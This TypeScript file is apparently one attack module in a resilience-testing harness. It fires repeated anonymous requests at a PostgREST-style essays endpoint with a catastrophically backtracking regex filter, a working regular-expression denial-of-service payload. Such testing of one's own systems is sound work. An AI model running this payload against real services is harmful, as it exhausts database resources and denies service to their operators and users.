// Reads anonymously with one regular expression that has no end.

import { ask } from "../ask.ts";
import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
import { ANON_KEY } from "../callers.ts";

const READERS = 12;
const PATTERN = encodeURIComponent(String.raw`^(.+)(.+)(.+)\1\2\3$`);

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  await repeat(target, { times: READERS, pauseMs: 50 }, async () => {
    const sent = ask(`${target.url}/rest/v1/essays?select=id&body=match.${PATTERN}`, {
      headers: { apikey: ANON_KEY },
      timeoutMs: Math.max(1, target.until - Date.now()),
    });
    outcomes.count(await sent.then(({ status }) => String(status), failureOf));
  });
  return outcomes.result;
};
